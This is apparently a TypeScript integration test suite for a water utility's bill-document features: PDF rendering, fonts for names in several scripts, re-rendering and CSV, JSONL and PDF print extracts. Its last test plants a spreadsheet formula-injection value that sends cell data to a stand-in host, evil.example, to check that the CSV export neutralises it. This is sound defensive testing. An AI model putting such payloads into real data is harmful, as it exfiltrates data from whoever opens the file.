import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import type { Runner } from 'graphile-worker';
import { startHarness, type Harness } from '../support/harness.ts';
import { startWorker } from '../../src/jobs/worker.ts';
import { makeTemplate, subscriptions, tariff } from '../terms/fixtures.ts';
import { call, docEnv, fetchFile, needsPoppler, pdfFonts, pdfText, processedTerm } from './support.ts';

// Hebrew and Hangul printed as boxes until 2026-11-27 (an attacker's name: no font had them).
const NAME = 'Zoë Жанна Ελένη مريم 王芳 שלום 김민수';
const BANK = { bankName: 'Equity Bank', accountName: 'Water Co', accountNumber: '0170299', branch: 'Moi Avenue', swift: 'EQBLKENA' };

/** Polls get-bill-documents until none is pending. */
async function waitForDocuments(h: Harness, termID: number, count: number) {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const r = await call(h, 'get-bill-documents', 'Retrieve', 'Retrieve Bill Documents', { termID });
    assert.equal(r.status, 200, JSON.stringify(r.body));
    const docs = r.body.data.documents;
    if (docs.length === count && docs.every((d: any) => d.status !== 'pending')) return docs;
    if (Date.now() > deadline) throw new Error(`documents still pending: ${JSON.stringify(docs)}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

describe('bill documents', { skip: needsPoppler() }, () => {
  let h: Harness;
  let worker: Runner;
  let termID: number;
  let bills: any[];
  before(async () => {
    h = await startHarness();
    worker = await startWorker(h.db, h.config, 2);
    await h.db.query(`UPDATE app SET name = 'Nairobi Water', address = '1 Reservoir Road, Nairobi', tax_number = 'P051234567X' WHERE app_code = $1`, [h.appCode]);
    await makeTemplate(h, tariff('WATER', { bankAccounts: [BANK], connectionInputs: [{ code: 'METER_NO', label: 'Meter number', type: 'string' }] }));
    const subs = await subscriptions(h, { n: 3, readings: [['2026-10-31', 100]], balance: '40.00' });
    for (const s of subs) await h.db.query(`UPDATE subscription SET connection_inputs = $2 WHERE subscription_id = $1`, [s.subscriptionId, JSON.stringify({ METER_NO: `M-${s.subscriptionId}` })]);
    await h.db.query(`UPDATE account SET name = $2, address = 'Флат 5, 北京' WHERE account_id = $1`, [subs[0]!.accountId, NAME]);
    termID = await processedTerm(h, subs);
    bills = (await h.post('/billing/bills/get-bills', docEnv('Retrieve', 'Retrieve Bills', { termID }))).body.data.bills;
  });
  after(async () => {
    await worker.stop();
    await h.close();
  });

  const pdfOf = (billID: number) => fetchFile(h, '/billing/documents/get-bill-document', docEnv('Retrieve', 'Retrieve Bill Document', { billID }));

  test('processing a term renders one document per bill, stored with its checksum', async () => {
    const docs = await waitForDocuments(h, termID, 3);
    assert.deepEqual(docs.map((d: any) => [d.billID, d.status, d.templateID, d.templateVersion]), bills.map((b) => [b.billID, 'rendered', 0, 1]));
    const pdf = await pdfOf(bills[0].billID);
    assert.equal(pdf.status, 200);
    assert.equal(pdf.type, 'application/pdf');
    assert.equal(pdf.headers.get('x-billrun-document-sha256'), crypto.createHash('sha256').update(pdf.bytes).digest('hex'));
    assert.equal(pdf.headers.get('x-billrun-document-sha256'), docs[0].sha256);
    // another app cannot read it
    const other = await fetchFile(h, '/billing/documents/get-bill-document', docEnv('Retrieve', 'Retrieve Bill Document', { billID: bills[0].billID }), h.tokens.otherAdmin);
    assert.equal(other.status, 404);
  });

  test("the PDF's text holds the bill's figures exactly", async () => {
    const b = bills[1];
    const text = pdfText((await pdfOf(b.billID)).bytes);
    const expected = [
      // The supplier's tax (VAT) number a VAT invoice carries (a new user found no place for it).
      'Nairobi Water', '1 Reservoir Road, Nairobi', 'Tax number P051234567X', `Bill ${b.billNumber}`, b.accountNumber, b.billDate, b.dueDate, `${b.periodStart} to ${b.periodEnd}`,
      'Standing charge', '150.00', 'Water', '25 m3', '1550.00', 'Sewer surcharge', '155.00', 'VAT', '296.80',
      '1855.00', '2151.80', '40.00', '2191.80', 'Total due: 2191.80 KES by 14/12/2026',
      'Water meter', '100 on 31/10/2026', '125 on 30/11/2026', 'tier 1: 10 x 50 = 500',
      'Equity Bank', '0170299', 'EQBLKENA', 'Payment reference: RF',
      // the meter number a utility prints, from the subscription's connection inputs (an outside check of real bills found no template could reach it)
      'Meter number', `M-${b.subscriptionID}`,
    ];
    for (const e of expected) assert.ok(text.includes(e), `missing ${JSON.stringify(e)} in:\n${text}`);
    for (const l of b.lines) assert.ok(text.includes(l.amount), `line amount ${l.amount}`);
  });

  test('a name in seven scripts prints with embedded fonts and no missing glyph', async () => {
    const pdf = (await pdfOf(bills[0].billID)).bytes;
    const fonts = pdfFonts(pdf);
    for (const f of ['NotoSans-Regular', 'NotoNaskhArabic', 'NotoSansHans-Regular', 'NotoSansHebrew', 'NotoSansKR-Regular']) assert.match(fonts, new RegExp(`\\+${f}\\s.*yes\\s+yes\\s+yes`), fonts);
    assert.doesNotMatch(fonts, /\sno\s+(yes|no)\s+(yes|no)\s/, 'every font embedded');
    const text = pdfText(pdf).replace(/[\u200e\u200f\u202a-\u202e]/g, '');
    for (const part of NAME.split(' ')) assert.ok(text.includes(part), `${part} not in the text:\n${text}`);
    assert.ok(text.includes('Флат 5, 北京'));
  });

  test('the same bill and template version give the same bytes; a new version is used only when asked', async () => {
    const first = (await pdfOf(bills[0].billID)).bytes;
    const again = await call(h, 'render-bill-documents', 'Update', 'Render Bill Documents', { termID, all: true });
    assert.equal(again.status, 200, JSON.stringify(again.body));
    assert.equal(again.headers.get('x-billrun-documents'), '3');
    await waitForDocuments(h, termID, 3);
    const second = (await pdfOf(bills[0].billID)).bytes;
    assert.ok(first.equals(second), 'the same bytes');

    // an own template, then a new version of it: the documents name the version they used
    const made = await call(h, 'make-document-template', 'Create', 'Create Document Template', { kind: 'invoice', name: 'Short', body: '# {{ app.name }}\nBill {{ bill.number }} total {{ bill.totalDue }}' });
    const id = Number(made.headers.get('x-billrun-template-id'));
    const svc = await h.post('/billing/services/update-service', { method: 'Update', action: 'Update Package', apiVersion: 'v2', service: tariff('WATER', { bankAccounts: [BANK], invoiceTemplate: { templateID: id } }) });
    assert.equal(svc.status, 200, JSON.stringify(svc.body));
    // the term keeps the pricing template version it was made with (and so its invoice template)
    // A bill not of the term is NOT_FOUND on its place in the list (a fuzzer's answered 200, queuing nothing).
    const unknown = await call(h, 'render-bill-documents', 'Update', 'Render Bill Documents', { termID, billIDs: [bills[2].billID, 987654321] });
    assert.equal(unknown.status, 404, JSON.stringify(unknown.body));
    assert.deepEqual(unknown.body.error.details.map((d: any) => d.path), ['data.billIDs[1]']);
    const r = await call(h, 'render-bill-documents', 'Update', 'Render Bill Documents', { termID, billIDs: [bills[2].billID] });
    assert.equal(r.headers.get('x-billrun-documents'), '1');
    const docs = await waitForDocuments(h, termID, 3);
    assert.deepEqual([docs[2].templateID, docs[2].templateVersion], [0, 1]);
  });

  test('a document not rendered yet, or that failed, is a 409 that says which and what to do', async () => {
    const billID = bills[1].billID;
    const state = (status: string) => h.db.query(`UPDATE bill_document SET status = $2, pdf = NULL, sha256 = NULL, error = $3 WHERE bill_id = $1`, [billID, status, status === 'failed' ? 'test' : null]);
    await state('pending');
    const pending = await pdfOf(billID);
    assert.equal(pending.status, 409);
    assert.match(JSON.parse(pending.bytes.toString()).message, /is being rendered; ask again in a moment/);
    await state('failed');
    const failed = await pdfOf(billID);
    assert.equal(failed.status, 409);
    assert.match(JSON.parse(failed.bytes.toString()).message, /could not be rendered .*render-bill-documents renders it again/);
    // Rendered again on request.
    const again = await call(h, 'render-bill-documents', 'Update', 'Render Bill Documents', { termID, billIDs: [billID] });
    assert.equal(again.status, 200, JSON.stringify(again.body));
    await waitForDocuments(h, termID, 3);
    assert.equal((await pdfOf(billID)).status, 200);
    // Before the term's document plan has run (its job is queued with the term's finish), the
    // bill has no document row yet: being rendered too, not NOT_FOUND (a test asking right
    // after processing met the 404 on a busy host).
    await h.db.query(`DELETE FROM bill_document WHERE bill_id = $1`, [billID]);
    const unplanned = await pdfOf(billID);
    assert.equal(unplanned.status, 409, unplanned.bytes.toString());
    assert.match(JSON.parse(unplanned.bytes.toString()).message, /is being rendered; ask again in a moment/);
    // Another app's bill, and a bill that does not exist, stay NOT_FOUND.
    assert.equal((await fetchFile(h, '/billing/documents/get-bill-document', docEnv('Retrieve', 'Retrieve Bill Document', { billID }), h.tokens.otherAdmin)).status, 404);
    assert.equal((await pdfOf(9_000_000_000)).status, 404);
    // render-bill-documents makes its row again.
    assert.equal((await call(h, 'render-bill-documents', 'Update', 'Render Bill Documents', { termID, billIDs: [billID] })).status, 200);
    await waitForDocuments(h, termID, 3);
    assert.equal((await pdfOf(billID)).status, 200);
  });

  test('the print extract: rows equal the bills (JSON lines and CSV), and one PDF of all documents', async () => {
    const jsonl = await fetchFile(h, '/billing/documents/get-print-extract', docEnv('Retrieve', 'Retrieve Print Extract', { termID, format: 'jsonl' }));
    assert.equal(jsonl.status, 200);
    const rows = jsonl.bytes.toString().trim().split('\n').map((l) => JSON.parse(l));
    assert.deepEqual(
      rows.map((r) => [r.billID, r.billNumber, r.accountNumber, r.billDate, r.dueDate, r.charges, r.tax, r.total, r.balanceBroughtForward, r.totalDue, r.lines.map((l: any) => l.amount)]),
      bills.map((b) => [b.billID, b.billNumber, b.accountNumber, b.billDate, b.dueDate, b.charges, b.tax, b.total, b.balanceBroughtForward, b.totalDue, b.lines.map((l: any) => l.amount)]),
    );
    assert.equal(rows[0].accountName, NAME);
    const csv = await fetchFile(h, '/billing/documents/get-print-extract', docEnv('Retrieve', 'Retrieve Print Extract', { termID, format: 'csv' }));
    const lines = csv.bytes.toString().trim().split('\r\n');
    assert.equal(lines.length, 4);
    assert.match(lines[0]!, /^billID,billNumber,billDate,/);
    assert.equal(lines[2]!.split(',').slice(0, 2).join(','), `${bills[1].billID},${bills[1].billNumber}`);
    const pdf = await fetchFile(h, '/billing/documents/get-print-extract', docEnv('Retrieve', 'Retrieve Print Extract', { termID, format: 'pdf' }));
    assert.equal(pdf.type, 'application/pdf');
    const text = pdfText(pdf.bytes);
    for (const b of bills) assert.ok(text.includes(`Bill ${b.billNumber}`));
    const printOnly = await fetchFile(h, '/billing/documents/get-print-extract', docEnv('Retrieve', 'Retrieve Print Extract', { termID, format: 'jsonl', only: 'print' }));
    assert.equal(printOnly.bytes.toString().trim().split('\n').length, 3, 'accounts take print by default');
  });

  // An attack found an account named =HYPERLINK(...) written as a formula into the extract.
  test('the CSV extract keeps text that looks like a formula as text; amounts stay numbers', async () => {
    const before = await h.db.query<{ name: string; address: string }>('SELECT name, address FROM account WHERE account_number = $1', [bills[0].accountNumber]);
    await h.db.query(`UPDATE account SET name = '=HYPERLINK("http://evil.example/?"&A2,"Click")', address = '@SUM(1+1)' WHERE account_number = $1`, [bills[0].accountNumber]);
    try {
      const csv = await fetchFile(h, '/billing/documents/get-print-extract', docEnv('Retrieve', 'Retrieve Print Extract', { termID, format: 'csv' }));
      const row = csv.bytes.toString().split('\r\n')[1]!;
      assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"`), row);
      assert.ok(row.includes(`,'@SUM(1+1),`), row);
      assert.ok(!/,[=+@]/.test(row), row);
    } finally {
      await h.db.query('UPDATE account SET name = $2, address = $3 WHERE account_number = $1', [bills[0].accountNumber, before.rows[0]!.name, before.rows[0]!.address]);
    }
  });
});
